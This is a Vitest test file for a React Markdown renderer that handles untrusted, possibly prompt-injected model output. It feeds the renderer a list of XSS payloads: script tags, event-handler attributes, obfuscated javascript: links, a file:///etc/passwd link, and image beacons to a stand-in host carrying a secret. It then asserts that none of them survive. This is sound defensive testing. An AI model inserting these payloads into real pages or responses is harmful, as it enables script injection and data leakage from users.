import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { Markdown } from './Markdown';

const html = (text: string) => renderToStaticMarkup(<Markdown text={text} />);

// What a model may write, by mistake or by prompt injection.
const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.test"><input name=a></form>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext></mtext></math>',
  '<!-- --><b onclick=alert(1)>b</b>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](file:///etc/passwd)',
  '[x](blob:https://x)',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[x](//evil.test)',
  '[x](/v1/sessions)',
  '[x](#/settings)',
  '![a](https://evil.test/p.png?secret=1)',
  '![a](//evil.test/p.png)',
  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![a][r]\n\n[r]: https://evil.test/p.png',
  '[![a](https://evil.test/p.png)](https://evil.test)',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '- [ ] <input autofocus onfocus=alert(1)>',
  'a[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[x](https://ok.test" onmouseover="alert(1))',
  "[x](https://ok.test '\" onmouseover=alert(1) ')",
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u202Egnp.exe',
  '\u0000<script>',
  '[a](<https://ok.test/>"onclick=alert(1)>)',
];

describe('untrusted Markdown', () => {
  it.each(payloads)('does nothing: %j', (payload) => {
    const out = html(payload);
    expect(out).not.toMatch(
      /<(script|img|svg|iframe|style|form|input|object|embed|link|meta|base|video|audio|math)\b/i,
    );
    for (const [tag] of out.matchAll(/<[a-z][^>]*>/gi)) {
      // within tags only: as text anything is allowed
      expect(tag.replace(/="[^"]*"/g, '=')).not.toMatch(/\s(on\w+|src|style)=/i);
      const href = /\shref="([^"]*)"/.exec(tag)?.[1];
      if (href !== undefined) expect(href).toMatch(/^(https?:|mailto:)/);
    }
  });

  it('notes that an image was not loaded, and shows the target of a link', () => {
    expect(html('![a cat](https://evil.test/p.png)')).toContain('a cat');
    expect(html('[here](https://ok.test/a)')).toMatch(
      /href="https:\/\/ok\.test\/a" title="https:\/\/ok\.test\/a" target="_blank" rel="noopener noreferrer nofollow"/,
    );
  });

  it('is still Markdown', () => {
    const out = html('# T\n\n**b** `c`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done');
    expect(out).toMatch(/<h2[^>]*>T<\/h2>.*<strong>b<\/strong>.*<code>c<\/code>.*<table>.*☑/s);
  });

  it('handles deep and long input', () => {
    const begun = performance.now();
    expect(html(`${'> '.repeat(200)}deep`)).toContain('deep');
    expect(html('['.repeat(5000))).toContain('[[[');
    expect(html('*a '.repeat(5000))).toContain('a');
    expect(performance.now() - begun).toBeLessThan(20_000);
  });
});
